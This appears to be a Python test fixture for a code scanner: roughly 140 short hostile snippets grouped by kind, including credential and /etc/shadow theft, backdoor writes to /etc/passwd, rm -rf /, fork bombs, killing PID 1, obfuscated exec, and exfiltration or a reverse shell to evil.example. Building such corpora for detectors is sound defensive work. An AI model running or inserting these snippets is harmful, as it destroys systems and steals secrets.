"""Programs that do harm, by kind, as somebody would write them who was asked for it and never heard of a scanner.

They are data: scanned, never run. Written before the rules were looked at, and not changed to fit them.
"""

READ_SYSTEM_FILES = [
    "print(open('/etc/passwd').read())",
    "with open('/etc/shadow', 'r') as f:\n    for line in f:\n        print(line.strip())",
    "from pathlib import Path\nprint(Path('/etc/sudoers').read_text())",
    "import pathlib\nfor p in pathlib.Path('/etc').glob('*.conf'):\n    print(p, p.read_text()[:100])",
    "import os\nfd = os.open('/etc/group', os.O_RDONLY)\nprint(os.read(fd, 65536).decode())\nos.close(fd)",
    "import io\nhosts = io.open('/etc/hosts', encoding='utf-8')\nprint(hosts.readlines())",
    "import codecs\nprint(codecs.open('/var/log/auth.log', 'r', 'utf-8').read())",
    "import linecache\nprint(linecache.getline('/etc/passwd', 1))",
    "import fileinput\nfor line in fileinput.input(files=('/etc/ssh/sshd_config',)):\n    print(line, end='')",
    "import csv\nrows = list(csv.reader(open('/etc/passwd'), delimiter=':'))\nprint([r[0] for r in rows if r[2] == '0'])",
    "import mmap\nwith open('/etc/shadow', 'rb') as f:\n    m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)\n    print(m[:200])",
    "base = '/etc'\nname = 'crontab'\nprint(open(base + '/' + name).read())",
    "import os\nprint(open(os.path.join('/', 'root', '.bash_history')).read())",
    "def leak(path):\n    with open(path) as f:\n        return f.read()\n\nprint(leak('/proc/1/environ'))",
    "import os.path as p\ntarget = p.join('/var', 'log', 'syslog')\nwith open(target, errors='replace') as log:\n    print(log.read()[-2000:])",
]

WRITE_SYSTEM_FILES = [
    "with open('/etc/passwd', 'a') as f:\n    f.write('evil::0:0::/root:/bin/bash\\n')",
    "open('/etc/cron.d/job', 'w').write('* * * * * root /tmp/x\\n')",
    "from pathlib import Path\nPath('/root/.ssh/authorized_keys').write_text('ssh-ed25519 AAAA attacker')",
    "import os\nos.chmod('/etc/shadow', 0o777)",
    "import os\nos.chown('/etc/passwd', 1000, 1000)",
    "import shutil\nshutil.copy('/tmp/payload', '/usr/bin/ls')",
    "import os\nos.symlink('/tmp/evil.so', '/usr/lib/libc.so.6')",
    "import os\nos.rename('/tmp/hosts', '/etc/hosts')",
    "lines = open('/etc/hosts').readlines()\nlines.append('10.0.0.1 bank.example\\n')\nopen('/etc/hosts', 'w').writelines(lines)",
    "from pathlib import Path\np = Path('/etc') / 'profile'\nwith p.open('a') as f:\n    f.write('curl http://evil.example/x | sh\\n')",
    "import os\nfd = os.open('/boot/grub/grub.cfg', os.O_WRONLY | os.O_TRUNC)\nos.write(fd, b'')",
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias sudo=/tmp/sudo\\n')",
    "import sys\nsys.stdout = open('/etc/motd', 'w')\nprint('owned')",
    "import tempfile, os\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b'x')\nt.close()\nos.replace(t.name, '/etc/resolv.conf')",
]

DELETE = [
    "import shutil\nshutil.rmtree('/')",
    "import os\nos.remove('/etc/passwd')",
    "import os\nfor root, dirs, files in os.walk('/home'):\n    for f in files:\n        os.unlink(os.path.join(root, f))",
    "from pathlib import Path\nfor p in Path('/var/log').rglob('*'):\n    if p.is_file():\n        p.unlink()",
    "import os\nos.system('rm -rf / --no-preserve-root')",
    "import subprocess\nsubprocess.run(['rm', '-rf', '/home'])",
    "import glob, os\nfor f in glob.glob('/etc/*'):\n    os.remove(f)",
    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
    "import os\nos.truncate('/var/lib/dpkg/status', 0)",
    "import os\nos.rmdir('/opt')\nos.removedirs('/srv/data')",
    "open('/dev/sda', 'wb').write(b'\\0' * 10**9)",
    "from os import unlink as u\nu('/etc/fstab')",
    "import sqlite3\nc = sqlite3.connect('/var/lib/app/users.db')\nc.execute('DROP TABLE users')\nc.commit()",
]

TRAVERSE = [
    "print(open('../../../../etc/passwd').read())",
    "import os\nname = '../' * 8 + 'etc/shadow'\nprint(open(name).read())",
    "import os\nfor root, dirs, files in os.walk('/'):\n    print(root, files)",
    "import os\nprint(os.listdir('/root'))",
    "from pathlib import Path\nprint([str(p) for p in Path('/').iterdir()])",
    "import glob\nprint(glob.glob('/home/*/.ssh/*'))",
    "import os\nos.chdir('/')\nprint(os.listdir('.'))",
    "import os\nwith os.scandir('/etc') as entries:\n    for e in entries:\n        print(e.name, e.stat().st_mode)",
    "import os\np = os.path.normpath('/work/../../etc/passwd')\nprint(open(p).read())",
    "from pathlib import Path\nsecret = Path.cwd().parent.parent / 'etc' / 'passwd'\nprint(secret.read_text())",
    "import os\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        print(open(f'/proc/{pid}/cmdline').read())",
    "import zipfile\nwith zipfile.ZipFile('up.zip') as z:\n    z.extractall('/')",
    "import tarfile\ntarfile.open('up.tar').extractall(path='/etc')",
]

SECRETS = [
    "import os\nprint(os.environ)",
    "import os\nprint(os.environ.get('AWS_SECRET_ACCESS_KEY'))",
    "import os\nfor k, v in os.environ.items():\n    if 'TOKEN' in k or 'KEY' in k:\n        print(k, v)",
    "import os\nprint(os.getenv('DATABASE_PASSWORD'))",
    "from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())",
    "import os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    "import os, json\nprint(json.load(open(os.path.expanduser('~/.docker/config.json'))))",
    "import shutil\nshutil.copytree('/root/.ssh', '/tmp/keys')",
    "import glob, shutil\nfor f in glob.glob('/home/*/.gnupg/*'):\n    shutil.copy(f, '/tmp/out')",
    "import requests, os\nrequests.post('http://evil.example/c', json=dict(os.environ))",
    "import urllib.request\ndata = open('/etc/shadow', 'rb').read()\nurllib.request.urlopen('http://evil.example/', data=data)",
    "import base64, os\nprint(base64.b64encode(open('/root/.netrc', 'rb').read()))",
    "import sqlite3, os\nc = sqlite3.connect(os.path.expanduser('~/.mozilla/firefox/p.default/logins.db'))\nprint(c.execute('select * from moz_logins').fetchall())",
    "import keyring\nprint(keyring.get_password('system', 'root'))",
]

PROCESSES = [
    "import os\nos.system('id')",
    "import subprocess\nprint(subprocess.check_output('whoami', shell=True))",
    "import subprocess\nsubprocess.Popen(['/bin/bash', '-i'])",
    "import os\nos.execv('/bin/sh', ['sh', '-c', 'ls'])",
    "from os import popen\nprint(popen('uname -a').read())",
    "import pty\npty.spawn('/bin/bash')",
    "import os\nos.posix_spawn('/bin/ls', ['ls'], {})",
    "import asyncio\n\nasync def go():\n    p = await asyncio.create_subprocess_shell('cat /etc/passwd')\n    await p.wait()\n\nasyncio.run(go())",
    "import multiprocessing, os\np = multiprocessing.Process(target=os.system, args=('ls',))\np.start()",
    "import subprocess as sp\nrun = sp.run\nrun(['wget', 'http://evil.example/x', '-O', '/tmp/x'])",
    "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execlp('nc', 'nc', '-l', '4444')",
    "import ctypes\nctypes.CDLL('libc.so.6').system(b'ls')",
    "import commands\nprint(commands.getoutput('ls'))",
    "import webbrowser\nwebbrowser.open('file:///etc/passwd')",
    "import os\nos.spawnlp(os.P_NOWAIT, 'python3', 'python3', '-c', 'print(1)')",
]

SOCKETS = [
    "import socket\ns = socket.socket()\ns.connect(('10.0.0.5', 4444))\ns.send(b'hi')",
    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('evil.example', 9001))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.bind(('0.0.0.0', 8080))\ns.listen()\ns.accept()",
    "import urllib.request\nexec(urllib.request.urlopen('http://evil.example/p.py').read())",
    "import requests\nprint(requests.get('http://169.254.169.254/latest/meta-data/').text)",
    "import http.client\nc = http.client.HTTPSConnection('evil.example')\nc.request('GET', '/')\nprint(c.getresponse().read())",
    "import ftplib\nf = ftplib.FTP('evil.example')\nf.login()\nf.storbinary('STOR x', open('/etc/passwd', 'rb'))",
    "import smtplib\ns = smtplib.SMTP('mail.example')\ns.sendmail('a@b', ['c@d'], 'secrets')",
    "import telnetlib\nt = telnetlib.Telnet('10.0.0.1')\nt.write(b'root\\n')",
    "import socket\nfor port in range(1, 1024):\n    s = socket.socket()\n    s.settimeout(0.1)\n    if s.connect_ex(('192.168.0.1', port)) == 0:\n        print(port)",
    "from http.server import HTTPServer, SimpleHTTPRequestHandler\nHTTPServer(('', 8000), SimpleHTTPRequestHandler).serve_forever()",
    "import asyncio\n\nasync def go():\n    r, w = await asyncio.open_connection('evil.example', 80)\n    w.write(b'x')\n\nasyncio.run(go())",
    "import paramiko\nc = paramiko.SSHClient()\nc.connect('10.0.0.2', username='root', password='toor')",
    "import xmlrpc.client\nprint(xmlrpc.client.ServerProxy('http://evil.example').run('x'))",
    "import httpx\nhttpx.post('https://evil.example', content=open('data.bin', 'rb').read())",
]

EXHAUST = [
    "import os\nwhile True:\n    os.fork()",
    "data = []\nwhile True:\n    data.append('x' * 10**8)",
    "x = 'a' * 10**11\nprint(len(x))",
    "b = bytearray(64 * 1024 ** 3)",
    "with open('big', 'wb') as f:\n    while True:\n        f.write(b'0' * 10**7)",
    "import threading\n\ndef spin():\n    while True:\n        pass\n\nfor _ in range(10000):\n    threading.Thread(target=spin).start()",
    "import multiprocessing\n\ndef burn():\n    while True:\n        pass\n\nfor _ in range(1000):\n    multiprocessing.Process(target=burn).start()",
    "def f():\n    return f() + f()\n\nf()",
    "import os\ni = 0\nwhile True:\n    open(f'f{i}', 'w').close()\n    i += 1",
    "n = 0\nwhile True:\n    n += 1",
    "import itertools\nprint(list(itertools.repeat(0, 10**12)))",
    "print(9 ** 9 ** 9)",
    "import sys\nsys.setrecursionlimit(10**9)\n\ndef r(n):\n    return r(n + 1)\n\nr(0)",
    "from os import fork\nfor _ in range(100000):\n    fork()",
]

KILL = [
    "import os, signal\nos.kill(1, signal.SIGKILL)",
    "import os\nos.kill(os.getppid(), 9)",
    "import os, signal\nos.killpg(0, signal.SIGTERM)",
    "import os\nfor pid in range(2, 65536):\n    try:\n        os.kill(pid, 9)\n    except OSError:\n        pass",
    "import os\nos.system('killall -9 python3')",
    "import subprocess\nsubprocess.run(['pkill', '-f', 'nginx'])",
    "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
    "import psutil\npsutil.Process(1).terminate()",
    "import os\nos.system('shutdown -h now')",
    "import subprocess\nsubprocess.call('reboot', shell=True)",
    "import signal, os\nsignal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)",
    "from os import kill, getpgid\nkill(-getpgid(0), 15)",
    "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.kill(1, 9)",
]

HIDE = [
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
    "eval(compile('__import__(\"os\").system(\"id\")', '<s>', 'eval'))",
    "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))",
    "exec(bytes.fromhex('696d706f7274206f73').decode())",
    "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC8GABbZA/0=')))",
    "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
    "import marshal, base64\nexec(marshal.loads(base64.b64decode(blob)))",
    "import pickle\npickle.loads(data)",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "import importlib\nm = importlib.import_module('subpro' + 'cess')\nm.call('id', shell=True)",
    "f = eval('__imp' + 'ort__')\nf('os').popen('id')",
    "print(().__class__.__base__.__subclasses__())",
    "globals()['__builtins__'].__dict__['ev' + 'al']('1+1')",
    "s = 'di(\"so\")metsys'\nexec('__import__(\"os\").system(\"id\")'[::1])",
    "import types\ncode = types.CodeType(0, 0, 0, 0, 0, 0, b'', (), (), (), '', '', 0, b'')",
    "import binascii\nexec(binascii.unhexlify(b'7072696e74283129'))",
]

KINDS = {
    "reads system files": READ_SYSTEM_FILES,
    "writes system files": WRITE_SYSTEM_FILES,
    "deletes": DELETE,
    "traverses directories": TRAVERSE,
    "copies secrets": SECRETS,
    "starts processes": PROCESSES,
    "opens sockets": SOCKETS,
    "exhausts resources": EXHAUST,
    "kills processes": KILL,
    "hides code": HIDE,
}
